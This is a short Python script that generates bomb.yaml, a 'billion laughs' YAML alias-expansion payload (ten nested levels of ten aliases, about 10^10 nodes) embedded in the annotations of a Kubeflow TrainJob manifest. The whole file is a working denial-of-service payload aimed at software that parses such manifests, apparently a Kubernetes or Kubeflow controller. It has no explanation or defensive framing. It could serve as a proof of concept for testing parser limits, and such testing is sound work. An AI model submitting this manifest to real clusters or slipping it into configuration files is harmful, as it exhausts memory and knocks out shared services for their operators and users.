# Writes bomb.yaml: "billion laughs", 10 levels of 10 aliases each (10^10 nodes once expanded).
lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for i in range(1, 10):
    items = ",".join(f"*a{i-1}" for _ in range(10))
    lines.append(f"a{i}: &a{i} [{items}]")
body = "\n".join("    " + l for l in lines)
doc = f"""apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata:
  name: laughs
spec:
  runtimeRef:
    name: torch-distributed
  trainer:
    numNodes: 1
  annotations:
{body}
"""
open("bomb.yaml", "w").write(doc)
